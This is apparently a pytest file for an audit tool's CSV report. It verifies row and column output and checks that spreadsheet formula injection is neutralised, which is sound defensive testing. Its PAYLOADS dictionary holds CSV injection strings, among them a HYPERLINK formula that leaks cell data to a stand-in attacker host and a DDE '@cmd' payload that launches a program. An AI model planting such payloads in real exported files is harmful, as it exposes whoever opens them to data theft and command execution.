"""CSV: RFC 4180 through the csv module, one row per finding, formula injection neutralised."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

from auditor.report import REPORTERS, RenderOptions
from auditor.report.csv_report import COLUMNS, neutralise

REQUIRED = (
    "time",
    "organisation",
    "category",
    "operation",
    "kind",
    "outcome",
    "pack",
    "rule",
    "severity",
    "file",
    "record",
    "frames",
    "faces",
    "persons",
)


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_demo_rows_and_columns(demo_report: dict[str, Any]) -> None:
    text = REPORTERS["csv"].render(demo_report, RenderOptions())
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    table = rows(text)
    assert tuple(table[0]) == COLUMNS
    assert set(REQUIRED) <= set(COLUMNS)
    assert len(table) == 1 + len(demo_report["findings"])
    first = dict(zip(COLUMNS, table[1], strict=True))
    finding = demo_report["findings"][0]
    assert first["finding_id"] == finding["id"]
    assert first["time"] == finding["events"][0]["time"]
    assert first["faces"] == str(sum(fr["faces"] for fr in finding["frames"]))
    assert first["frames"] == str(len(finding["frames"]))


def test_neutralise() -> None:
    for raw in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(raw) == "'" + raw
    for plain in ("police", "a=b", "", None, 3):
        assert neutralise(plain) == ("" if plain is None else str(plain))


PAYLOADS = {
    "principal": '=HYPERLINK("http://attacker.invalid/?leak="&A1,"click")',
    "organisation": "+SUM(1,2)",
    "event_id": "@cmd|' /C calc'!A0",
    "case_ref": "-2+3",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def _injection_bundle(root: Path) -> Path:
    (root / "logs").mkdir(parents=True)
    (root / "principals.toml").write_text(
        "[[principal]]\n"
        f"name = '''{PAYLOADS['principal']}'''\n"
        f"organisation = '''{PAYLOADS['organisation']}'''\n"
        'category = "police"\n',
        encoding="utf-8",
    )
    import json

    record = {
        "time": "2023-05-02T08:00:00Z",
        "principal": PAYLOADS["principal"],
        "service": "rekognition",
        "operation": "SearchFacesByImage",
        "event_id": PAYLOADS["event_id"],
        "case_ref": PAYLOADS["case_ref"],
        "purpose": 'line one\nline "two", with comma',
    }
    second = {**record, "event_id": PAYLOADS["tab"], "time": "2023-05-03T08:00:00Z"}
    third = {**record, "event_id": PAYLOADS["cr"], "time": "2023-05-04T08:00:00Z"}
    (root / "logs" / "ops.jsonl").write_text(
        "\n".join(json.dumps(r) for r in (record, second, third)) + "\n", encoding="utf-8"
    )
    return root


def test_formula_injection_from_log_fields(tmp_path: Path, run_cli: Callable[..., Any]) -> None:
    bundle = _injection_bundle(tmp_path / "bundle")
    out = tmp_path / "report.csv"
    result = run_cli(
        "audit",
        bundle,
        "--no-store",
        "--no-frames",
        "--policy",
        "amazon-rekognition-police-2020",
        "-f",
        "csv",
        "-o",
        out,
    )
    assert result.exit_code == 1, result.stderr
    table = rows(out.read_bytes().decode("utf-8"))
    assert len(table) == 4
    for line in table[1:]:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)
        row = dict(zip(COLUMNS, line, strict=True))
        assert row["principal"] == "'" + PAYLOADS["principal"]
        assert row["organisation"] == "'" + PAYLOADS["organisation"]
        assert row["message"].startswith("'+SUM(1,2) (police) ran SearchFacesByImage")
    event_ids = [dict(zip(COLUMNS, line, strict=True))["event_id"] for line in table[1:]]
    assert event_ids == ["'" + PAYLOADS["event_id"], "'" + PAYLOADS["tab"], "'" + PAYLOADS["cr"]]
